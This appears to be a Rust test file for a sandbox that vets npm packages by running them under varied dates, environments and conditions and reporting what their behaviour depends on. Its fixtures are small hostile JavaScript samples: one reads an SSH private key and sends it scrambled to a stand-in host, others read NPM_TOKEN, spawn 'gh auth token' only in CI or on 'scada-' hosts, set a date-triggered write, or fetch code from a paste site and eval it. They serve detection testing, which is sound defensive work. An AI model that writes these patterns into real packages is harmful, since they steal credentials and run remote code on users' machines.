//! Runs compared: what a flow of secrets, a date, a condition and a staged download look like in observations.

use std::sync::OnceLock;

use node_vetting::engine::{Engine, Recipe, Script};
use node_vetting::exercise::{Fact, Observations, Profile, exercise};
use node_vetting::trace::End;

use crate::support::{client, closure, folder, recipe};

/// The small prelude with a driver that loads what a plan names and lets a month of hours pass.
const DRIVER: &str = r"
import './main.js';
import { ask } from './ask.js';
const { drive, synthesize, rejected } = globalThis.__guest;
globalThis.__guest = {
  synthesize,
  rejected,
  drive(text) {
    const plan = JSON.parse(text);
    globalThis.hours = [];
    globalThis.credential = plan.credential;
    for (const entry of plan.loads) {
      try { drive(entry.path); } catch (error) { ask('record', { what: { kind: 'uncaught', said: String(error) } }); }
    }
    ask('phase', { phase: 'timer' });
    for (let hour = 0; hour < 720; hour++) {
      ask('clock.advance', { ms: 3600000 });
      for (const due of globalThis.hours) due();
    }
    return '';
  },
};
";

fn engine() -> &'static Engine {
    static ENGINE: OnceLock<Engine> = OnceLock::new();
    ENGINE.get_or_init(|| {
        let mut scripts = vec![Script {
            name: "drive.js".into(),
            source: DRIVER.into(),
        }];
        scripts.extend(recipe().scripts);
        let recipe = Recipe {
            scripts,
            packages: Vec::new(),
        };
        let image = tokio::runtime::Runtime::new()
            .expect("a runtime")
            .block_on(recipe.image(&folder(), &client()))
            .expect("an image");
        Engine::open(&image).expect("an engine")
    })
}

fn observe(source: &str) -> Observations {
    observe_within(source, &Profile::default())
}

fn observe_within(source: &str, profile: &Profile) -> Observations {
    let source = format!("const host = require('host');\n{source}");
    let closure = closure(&[("t", &[("index.js", source.as_str())])]);
    exercise(engine(), &closure, profile).expect("observations")
}

fn facts(source: &str) -> Vec<Fact> {
    observe(source).seen.into_iter().map(|seen| seen.fact).collect()
}

#[test]
fn a_quiet_package_shows_nothing() {
    let seen = observe("module.exports = () => host('fs.read', { path: '/data/settings.js' });");
    assert_eq!(seen.seen, []);
    assert!(seen.runs.len() >= 9, "{}", seen.runs.len());
    assert!(seen.runs.iter().all(|run| run.end == End::Done));
}

#[test]
fn what_only_secrets_change_is_a_flow_in_any_disguise() {
    let found = facts(
        "const key = host('fs.read', { path: '/home/operator/.ssh/id_ed25519' });
         const scrambled = Array.from(key, (byte, i) => (byte ^ 90 ^ i).toString(36)).join('');
         host('http.request', { method: 'GET', url: 'https://stats.example/' + scrambled.slice(80, 200), headers: [] });",
    );
    assert_eq!(
        found,
        [Fact::SecretDependent {
            act: "send https stats.example:443".to_owned(),
            configured: false
        }]
    );
}

#[test]
fn a_credential_for_the_configured_host_is_told_as_such() {
    let found = facts(
        "const body = new Uint8Array(Array.from(credential, (c) => c.charCodeAt(0)));
         host('http.request', { method: 'POST', url: 'https://api.line3.example/login', headers: [] }, body);",
    );
    let act = || "send https api.line3.example:443".to_owned();
    assert!(
        found.contains(&Fact::SecretDependent {
            act: act(),
            configured: true
        }),
        "{found:?}"
    );
    assert!(
        found.contains(&Fact::SecretSent {
            secret: "flow-credential".to_owned(),
            act: act(),
            configured: true
        }),
        "{found:?}"
    );
    assert_eq!(found.len(), 2, "{found:?}");
}

#[test]
fn secrets_that_decide_are_told() {
    let found = facts(
        "const keys = host('env.get', { key: 'NPM_TOKEN' });
         for (let i = 0; i < keys.charCodeAt(7) % 16 + keys.charCodeAt(9); i++) host('dns.resolve', { name: 'a.example' });",
    );
    assert!(
        matches!(&found[..], [Fact::SecretDecides { act, .. }] if act == "resolve a.example"),
        "{found:?}"
    );
}

#[test]
fn dates_that_decide_are_told() {
    let found = facts(
        "hours.push(() => {
           if (new Date().getFullYear() >= 2027) host('fs.write', { path: '/data/flows.json' }, new Uint8Array(0));
         });",
    );
    assert!(
        found.iter().all(|fact| matches!(fact,
            Fact::DateDecides { act, usual: 0, other, .. } if act == "fs.write /data/flows.json" && *other > 0)),
        "{found:?}"
    );
    let runs: Vec<&str> = found
        .iter()
        .map(|fact| match fact {
            Fact::DateDecides { run, .. } => run.as_str(),
            _ => "",
        })
        .collect();
    assert_eq!(runs, ["+400d", "+4y"]);
}

#[test]
fn conditions_that_decide_are_told_and_what_is_asked_for_is_given() {
    let decides = |source: &str, name: &str| {
        let found = facts(source);
        let told = found
            .iter()
            .any(|fact| matches!(fact, Fact::ConditionDecides { run, act, .. } if run == name && act == "spawn gh"));
        assert!(told, "{name}: {found:?}");
    };
    let spawn = "host('proc.spawn', { command: 'gh', args: ['auth', 'token'] })";
    decides(
        &format!("if (host('env.get', {{ key: 'CI' }}) === 'true') {spawn};"),
        "ci",
    );
    decides(
        &format!("if (host('env.get', {{ key: 'DEPLOY_STAGE' }})) {spawn};"),
        "asked-env",
    );
    decides(
        &format!(
            "try {{ host('http.request', {{ method: 'GET', url: 'http://x.example/', headers: [] }}); }} catch {{ {spawn}; }}"
        ),
        "offline",
    );
    decides(
        &format!("if (host('crypto.random', {{ size: 1 }})[0] > 250) {spawn};"),
        "rng-high",
    );
    decides(
        &format!("if (host('os.info', {{ what: 'user' }}).uid === 0) {spawn};"),
        "root-on-windows",
    );
    decides(
        &format!("if (/^scada-(east|west)\\d$/.test(host('os.info', {{ what: 'hostname' }}))) {spawn};"),
        "called [host scada-east1, user scada-east1]",
    );
}

#[test]
fn code_from_the_network_is_told() {
    let found = facts(
        "const { id } = host('http.request', { method: 'GET', url: 'https://paste.example/raw/1', headers: [] });
         const text = String.fromCharCode(...host('http.body', { id }));
         eval(text);
         host('fs.write', { path: '/tmp/x.sh', mode: 0o755 }, host('crypto.random', { size: 0 }));",
    );
    assert!(
        found.contains(&Fact::RemoteUsed {
            act: "eval eval".to_owned(),
            run: true
        }),
        "{found:?}"
    );
}

#[test]
fn coverage_tells_what_never_ran() {
    let source = "function often() { return 1; }\nfunction never() { return host('proc.spawn', { command: 'x' }); }\noften();";
    let seen = observe(source);
    let covered = seen
        .runs
        .iter()
        .find(|run| !run.covered.is_empty())
        .expect("a run with coverage");
    assert_eq!(covered.run, "covered");
    let (file, ran) = &covered.covered[0];
    assert_eq!(file, "node_modules/t/index.js");
    let whole = format!("const host = require('host');\n{source}");
    let cells = node_vetting::rewrite::cells(&whole).expect("it is read");
    let cold: Vec<&str> = cells
        .iter()
        .filter(|cell| !ran.contains(&cell.told))
        .map(|cell| &whole[cell.start as usize..cell.end as usize])
        .collect();
    assert_eq!(cold.len(), 1, "{cold:?}");
    assert!(cold[0].contains("proc.spawn"));
}

#[test]
fn what_does_not_end_is_told_and_not_trusted() {
    let profile = Profile {
        fuel: 3_000_000_000,
        ..Profile::default()
    };
    let seen = observe_within("for (;;);", &profile);
    let facts: Vec<&Fact> = seen.seen.iter().map(|seen| &seen.fact).collect();
    assert!(
        matches!(facts[..], [Fact::Exhausted { run, end: End::Stuck }] if run == "base"),
        "{facts:?}"
    );
}

#[test]
fn the_same_is_seen_twice() {
    let source =
        "host('http.request', { method: 'GET', url: 'https://a.example/' + Math.random(), headers: [] });";
    assert_eq!(observe(source), observe(source));
}
